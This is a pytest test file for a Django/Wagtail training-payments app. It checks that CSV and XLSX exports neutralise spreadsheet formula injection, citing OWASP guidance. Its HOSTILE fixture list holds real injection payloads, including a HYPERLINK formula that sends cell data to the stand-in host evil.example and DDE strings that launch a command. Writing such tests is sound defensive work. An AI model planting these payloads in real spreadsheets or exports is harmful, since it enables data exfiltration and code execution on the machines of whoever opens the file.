"""Exports never hand a spreadsheet a formula: OWASP's CSV injection guidance, CSV and XLSX, headers too."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from wagtail_training_pay.models import SessionFormField

pytestmark = pytest.mark.django_db
pytest_plugins = ["tests.admin_fixtures"]

#: Every character a spreadsheet may take as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(response):
    text = b"".join(response.streaming_content).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_csv(response):
    assert response.status_code == 200
    cells = csv_cells(response)
    assert cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    return cells


def assert_no_formula_in_xlsx(response):
    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [value for value in values if value.startswith(FORMULA_STARTS)] == []
    return cells


@pytest.fixture
def hostile_session(make_session, register):
    page = make_session(title='=HYPERLINK("http://evil.example","Session")', slug="hostile")
    SessionFormField.objects.create(page=page, label="=1+2", field_type="singleline", sort_order=0)
    for index, value in enumerate(HOSTILE):
        register(page, first_name=value, last_name=value, email=f"h{index}@example.com", answers={"12": value})
    return page


@pytest.mark.parametrize(
    ("url_name", "query"),
    [
        ("training_registrations:index", "page"),
        ("training_registrations:index", None),
        ("training_payments:index", None),
        ("training_reports:revenue_by_session", None),
    ],
)
def test_exports_neutralise_every_cell_that_would_start_a_formula(client, manager, hostile_session, url_name, query):
    client.force_login(manager)
    params = {"page": hostile_session.pk} if query else {}
    cells = assert_no_formula_in_csv(client.get(reverse(url_name), {**params, "export": "csv"}))
    # The values are all there, made inert by a leading apostrophe rather than dropped.
    assert "'=cmd|' /C calc'!A0" in cells or url_name.startswith("training_reports")
    assert_no_formula_in_xlsx(client.get(reverse(url_name), {**params, "export": "xlsx"}))


def test_the_question_label_header_is_neutralised(client, manager, hostile_session):
    client.force_login(manager)
    response = client.get(reverse("training_registrations:index"), {"page": hostile_session.pk, "export": "csv"})
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    assert "'=1+2" in header


def test_numbers_stay_numbers():
    from decimal import Decimal

    from wagtail_training_pay.spreadsheets import neutralise_formula

    assert neutralise_formula(Decimal("-10.00")) == Decimal("-10.00")
    assert neutralise_formula(-3) == -3
    assert neutralise_formula("-3") == "'-3"
    assert neutralise_formula("Ada") == "Ada"
    assert neutralise_formula("") == ""
    assert neutralise_formula(None) is None
